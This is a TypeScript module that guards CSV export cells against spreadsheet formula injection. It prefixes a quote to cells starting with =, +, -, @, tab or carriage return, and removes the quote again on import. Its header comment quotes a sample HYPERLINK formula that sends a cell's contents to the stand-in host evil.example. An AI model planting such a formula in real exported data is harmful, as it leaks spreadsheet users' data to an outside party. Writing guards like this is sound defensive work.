// Spreadsheet formula injection (OWASP "CSV Injection"): Excel and LibreOffice run a cell starting
// with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, and a title from a watched feed
// can be one (`=HYPERLINK("http://evil.example/?"&A1,"click")`). The CSV exports write such a text
// cell after a `'`, which spreadsheets show as text; the CSV import takes that one `'` off again,
// so an export re-imports unchanged.

/** A cell a spreadsheet would read as a formula, after any `'` already in front of it. */
const FORMULA_START = /^'*[=+\-@\t\r]/;
/** A cell the export guarded: one `'` taken off gives back what was stored. */
const GUARDED = /^'+[=+\-@\t\r]/;
/** A negative number is read as a number, not run: coordinates stay numbers for ACLED's tools. */
const NEGATIVE_NUMBER = /^-\d+(\.\d+)?$/;

/**
 * The text as a CSV cell that no spreadsheet runs. A `'` is put in front of a formula start, and
 * of text that already starts with `'` and one (so the import's taking one off gives it back whole).
 */
export function guardCell(text: string): string {
  return FORMULA_START.test(text) && !NEGATIVE_NUMBER.test(text) ? `'${text}` : text;
}

/** A CSV cell as an export guarded it, back as the text it was. */
export function unguardCell(cell: string): string {
  return GUARDED.test(cell) ? cell.slice(1) : cell;
}

/** Every text cell of a row guarded; numbers are left as they are. */
export function guardRow<K extends string>(row: Record<K, string | number>): Record<K, string | number> {
  const guarded = { ...row };
  for (const key of Object.keys(guarded) as K[]) {
    const value = guarded[key];
    if (typeof value === 'string') guarded[key] = guardCell(value);
  }
  return guarded;
}
